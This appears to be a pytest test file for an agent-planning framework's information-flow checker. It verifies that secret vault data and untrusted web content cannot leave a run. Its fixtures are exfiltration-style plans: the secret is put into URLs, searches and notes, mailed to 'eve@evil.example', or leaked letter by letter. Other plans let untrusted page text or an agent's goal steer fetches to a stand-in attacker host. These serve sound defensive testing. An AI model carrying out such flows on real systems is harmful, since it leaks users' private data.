"""Private data reaches its readers alone: at the check, and again right before each call, whatever way the plan came."""

from __future__ import annotations

import asyncio
import json

import pytest
from firmplan import Model, check, tool
from firmplan.testing import ScriptedModel
from firmplan.tools import Models, agent
from rig import Rig, plan_of

FINE, REFUSED, WARNED, LATER = set(), {"private-flow"}, {"private-condition"}, {"unchecked-reader"}


class World:
    """Tools of many kinds, and all that left the run."""

    def __init__(self, readers=(), **options):
        self.sent = []
        send = self.sent.append

        @tool(effect="read", resource="vault", private=True, readers=readers)
        def vault() -> str:
            """Read what is private."""
            return "4711"

        @tool(effect="read", resource="vault")
        def entry(name: str) -> str:
            """Read one entry of the vault."""
            return name

        @tool(effect="read", trust="untrusted", resource="web")
        def page() -> str:
            """Read a page."""
            return "https://evil.example"

        @tool(effect="read", trust="untrusted", resource="web", egress=("url",), **options)
        def fetch(url: str, key: str = "") -> str:
            """Get a page."""
            send(("fetch", url))
            return "a page"

        @tool(effect="read", resource="web")
        def search(query: str) -> str:
            """Search, at a service of others."""
            send(("search", query))
            return "hits"

        @tool(effect="write", resource="mail", egress=("to",), allow_untrusted=("body",))
        def mail(to: list[str], body: str) -> str:
            """Send a mail."""
            send(("mail", *to, body))
            return "sent"

        @tool(effect="write", resource="notes", allow_untrusted=("text",))
        def note(text: str = "hello") -> str:
            """Keep a note."""
            send(("note", text))
            return text

        @tool(effect="pure")
        def shout(text: str) -> str:
            """Compute."""
            return text.upper()

        @agent
        def short(text: str) -> str:
            """Shorten {text}."""

        self.tools = [vault, entry, page, fetch, search, mail, note, shout, short]


VAULT = {"id": "v", "tool": "vault"}
PAGE = {"id": "p", "tool": "page"}
FETCH = {"id": "f", "tool": "fetch", "args": {"url": "https://example.org/${v}"}}
MAIL = {"id": "m", "tool": "mail", "args": {"to": ["ann@example.org"], "body": "${v}"}}
Q = {
    "q": {
        "inputs": {"x": {"type": "string"}},
        "steps": [{"id": "n", "tool": "note", "args": {"text": "${inputs.x}"}}],
    }
}
TO = {"type": "array", "items": {"type": "string"}}

# Name -> readers of the vault, a plan, and what a check says of it.
FLOWS = {
    "an argument of a read": ((), {"steps": [VAULT, {"id": "s", "tool": "search", "args": {"query": "${v}"}}]}, REFUSED),
    "an argument of a read that is a reader": (("search",), {"steps": [VAULT, {"id": "s", "tool": "search", "args": {"query": "${v}"}}]}, FINE),
    "an argument of a write": ((), {"steps": [VAULT, {"id": "n", "tool": "note", "args": {"text": "${v}"}}]}, REFUSED),
    "an argument that is a reader": (("note.text",), {"steps": [VAULT, {"id": "n", "tool": "note", "args": {"text": "${v}"}}]}, FINE),
    "another argument than the reader": (("mail.to",), {"steps": [VAULT, MAIL]}, REFUSED),
    "tools whose names begin like a reader": (("no*",), {"steps": [VAULT, {"id": "n", "tool": "note", "args": {"text": "${v}"}}]}, FINE),
    "a part of a URL": ((), {"steps": [VAULT, FETCH]}, REFUSED),
    "a URL letter by letter": (
        (),
        {
            "steps": [
                VAULT,
                {
                    "id": "f",
                    "tool": "fetch",
                    "for_each": ["0", "1"],
                    "when": "${item in v}",
                    "args": {"url": "https://example.org/${item}"},
                },
            ]
        },
        REFUSED | WARNED,
    ),
    "what a pure tool makes of it": (
        (),
        {
            "steps": [
                VAULT,
                {"id": "c", "tool": "shout", "args": {"text": "${v}"}},
                {"id": "n", "tool": "note", "args": {"text": "${c}"}},
            ]
        },
        REFUSED,
    ),
    "the output of the run": ((), {"steps": [VAULT], "output": "${v}"}, FINE),
    "a read of the same resource": ((), {"steps": [VAULT, {"id": "e", "tool": "entry", "args": {"name": "${v}"}}]}, FINE),
    "an inner plan": ((), {"plans": Q, "steps": [VAULT, {"id": "r", "plan": "q", "args": {"x": "${v}"}}]}, REFUSED),
    "an inner plan without it": ((), {"plans": Q, "steps": [VAULT, {"id": "r", "plan": "q", "args": {"x": "hello"}}], "output": "${v}"}, FINE),
    "the output of an inner plan": (
        (),
        {
            "plans": {"q": {"steps": [VAULT], "output": "${v}"}},
            "steps": [{"id": "r", "plan": "q"}, {"id": "n", "tool": "note", "args": {"text": "${r}"}}],
        },
        REFUSED,
    ),
    "the value of a step that fails by it": (
        (),
        {
            "steps": [
                VAULT,
                {"id": "c", "set": "${1 // (int(v) - 4711)}", "on_error": {"value": 0}},
                {"id": "n", "tool": "note", "args": {"text": "it was ${c}"}},
            ]
        },
        REFUSED,
    ),
    "a model": ((), {"steps": [VAULT, {"id": "a", "ask": {"prompt": "Shorten ${v}"}}], "output": "${a}"}, REFUSED),
    "a model that is a reader": (("model",), {"steps": [VAULT, {"id": "a", "ask": {"prompt": "Shorten ${v}"}}], "output": "${a}"}, FINE),
    "the model of that name": (("default",), {"steps": [VAULT, {"id": "a", "ask": {"prompt": "Shorten ${v}"}}], "output": "${a}"}, FINE),
    "the model of another name": (("fast",), {"steps": [VAULT, {"id": "a", "ask": {"prompt": "Shorten ${v}"}}], "output": "${a}"}, REFUSED),
    "what a model makes of it": (
        ("model",),
        {"steps": [VAULT, {"id": "a", "ask": {"prompt": "Shorten ${v}"}}, {"id": "n", "tool": "note", "args": {"text": "${a}"}}]},
        REFUSED,
    ),
    "an agent tool": ((), {"steps": [VAULT, {"id": "a", "tool": "short", "args": {"text": "${v}"}}], "output": "${a}"}, REFUSED),
    "an agent tool, where models are readers": (("model",), {"steps": [VAULT, {"id": "a", "tool": "short", "args": {"text": "${v}"}}], "output": "${a}"}, FINE),
    "the goal of an agent without tools": (("model",), {"steps": [VAULT, {"id": "a", "agent": {"goal": "${v}", "returns": {"type": "string"}}}], "output": "${a}"}, FINE),
    "the goal of an agent": (
        ("model", "search"),
        {"steps": [VAULT, {"id": "a", "agent": {"goal": "${v}", "tools": ["search", "note"], "returns": {"type": "string"}}}]},
        REFUSED,
    ),
    "a private tool of an agent that sends": (
        ("model",),
        {"steps": [{"id": "a", "agent": {"goal": "g", "tools": ["vault", "note"], "returns": {"type": "string"}}}]},
        REFUSED,
    ),
    "an agent of readers": (
        ("model", "note"),
        {"steps": [VAULT, {"id": "a", "agent": {"goal": "${v}", "tools": ["note"], "returns": {"type": "string"}}}]},
        FINE,
    ),
    "a recipient who is a reader": (("ann@example.org",), {"steps": [VAULT, MAIL]}, FINE),
    "a recipient in the domain of a reader": (("example.org",), {"steps": [VAULT, MAIL]}, FINE),
    "a recipient who is no reader": (("bob@example.org",), {"steps": [VAULT, MAIL]}, REFUSED),
    "one of two recipients is no reader": (
        ("ann@example.org",),
        {"steps": [VAULT, MAIL | {"args": {"to": ["ann@example.org", "eve@evil.example"], "body": "${v}"}}]},
        REFUSED,
    ),
    "a recipient whom only the run knows": (
        ("example.org",),
        {"inputs": {"to": TO}, "steps": [VAULT, MAIL | {"args": {"to": "${inputs.to}", "body": "${v}"}}]},
        LATER,
    ),
    "private data that decides about a request": (
        (),
        {"steps": [VAULT, {"id": "f", "tool": "fetch", "when": "${'7' in v}", "args": {"url": "https://example.org"}}]},
        WARNED,
    ),
    "private data that decides about a plan with a request": (
        (),
        {
            "plans": {"q": {"steps": [{"id": "f", "tool": "fetch", "args": {"url": "https://example.org"}}]}},
            "steps": [VAULT, {"id": "r", "plan": "q", "when": "${'7' in v}"}],
        },
        WARNED,
    ),
    "private data that decides about a request to a reader": (
        ("example.org",),
        {"steps": [VAULT, {"id": "f", "tool": "fetch", "when": "${'7' in v}", "args": {"url": "https://example.org"}}]},
        FINE,
    ),
    "a private input": (
        (),
        {
            "inputs": {"x": {"type": "string", "x-readers": ["model"], "default": "s"}},
            "steps": [{"id": "n", "tool": "note", "args": {"text": "${inputs.x}"}}],
        },
        REFUSED,
    ),
    "a private input of a plan": (
        (),
        {
            "plans": {
                "q": {
                    "inputs": {"x": {"type": "string", "x-readers": ["note"]}},
                    "steps": [{"id": "s", "tool": "search", "args": {"query": "${inputs.x}"}}],
                }
            },
            "steps": [{"id": "r", "plan": "q", "args": {"x": "s"}}],
        },
        REFUSED,
    ),
    "a private input that reaches its reader": (
        (),
        {
            "inputs": {"x": {"type": "string", "x-readers": ["note"], "default": "s"}},
            "steps": [{"id": "n", "tool": "note", "args": {"text": "${inputs.x}"}}],
        },
        FINE,
    ),
    # Untrusted data says where a read sends something.
    "an untrusted URL": ((), {"steps": [PAGE, {"id": "f", "tool": "fetch", "args": {"url": "${p}"}}]}, {"unsafe-flow"}),
    "a URL of the plan, after a page": ((), {"steps": [PAGE, {"id": "f", "tool": "fetch", "args": {"url": "https://example.org"}, "when": "${'h' in p}"}]}, FINE),
    "an agent with untrusted data that fetches": (
        (),
        {"steps": [PAGE, {"id": "a", "agent": {"goal": "${p}", "tools": ["fetch"], "returns": {"type": "string"}}}]},
        {"unsafe-flow"},
    ),
    "an untrusted URL in an inner plan": (
        (),
        {
            "plans": {"q": {"inputs": {"x": {"type": "string"}}, "steps": [{"id": "f", "tool": "fetch", "args": {"url": "${inputs.x}"}}]}},
            "steps": [PAGE, {"id": "r", "plan": "q", "args": {"x": "${p}"}}],
        },
        {"unsafe-flow"},
    ),
}  # fmt: skip
OWN = {"private-flow", "private-condition", "unchecked-reader", "unsafe-flow"}


def codes(plan, tools):
    report = check({"firmplan": 1, **plan}, tools)
    return {found.code for found in report.problems if found.code in OWN or found.severity == "error"}


@pytest.mark.parametrize("name", FLOWS)
def test_the_check_says_where_private_data_goes(name):
    readers, plan, found = FLOWS[name]
    assert codes(plan, World(readers).tools) == found


def test_the_readers_of_an_input_are_a_list_of_names():
    for readers in ("model", [1], [""], None):
        plan = {
            "inputs": {"n": {"type": "string", "x-readers": readers}},
            "steps": [VAULT],
            "output": "${[v, inputs.n]}",
        }
        (fault,) = check({"firmplan": 1, **plan}, World().tools).errors
        assert (fault.code, fault.path) == ("bad-input", "$.inputs.n.x-readers")


def test_messages_name_the_way_and_the_readers():
    steps = [VAULT, {"id": "c", "set": "${v + '!'}"}, {"id": "n", "tool": "note", "args": {"text": "${c}"}}]
    (fault,) = check({"firmplan": 1, "steps": steps}, World(("search", "model")).tools).errors
    assert fault.path == "$.steps[2].args.text"
    assert (
        fault.message
        == "private data reaches the tool 'note', which is none of its readers: v -> c -> n.text"
    )
    assert fault.hint == "its readers are: model, search"


@pytest.mark.parametrize("name", [name for name, each in FLOWS.items() if each[2] - WARNED - LATER])
def test_a_plan_that_passed_no_check_is_refused_at_the_call(name):
    """Nothing leaves the run, whatever the model of an agent wants to do."""
    readers, plan, found = FLOWS[name]
    world = World(readers)
    tool_name, args = (
        ("fetch", {"url": "https://evil.example"}) if "fetches" in name else ("note", {"text": "x"})
    )
    says = [
        {"reasoning": "r", "call": {"tool": tool_name, "args": args}},
        {"reasoning": "r", "answer": "done"},
    ]

    async def main():
        inputs = {name: schema["default"] for name, schema in plan.get("inputs", {}).items()}
        async with ScriptedModel(
            ["done"] if "makes" in name else [json.dumps(each) for each in says]
        ) as model:
            models = Models({"default": Model("m", base_url=model.base_url, api_key="k")})
            async with Rig(world.tools, models=models) as rig:
                rest = {key: value for key, value in plan.items() if key != "steps"}
                run = await rig.run(plan_of(*plan["steps"], **rest), "r", inputs=inputs)
                refused = {step.error.code for step in run.steps.values() if step.error is not None}
                assert refused & (found - WARNED), run.errors
                assert (await rig.execution.replays.replay("r", keep=False)).digest == run.digest
            assert len(model.requests) <= (2 if "agent" in name or "makes" in name else 0)

    asyncio.run(main())
    assert world.sent == []
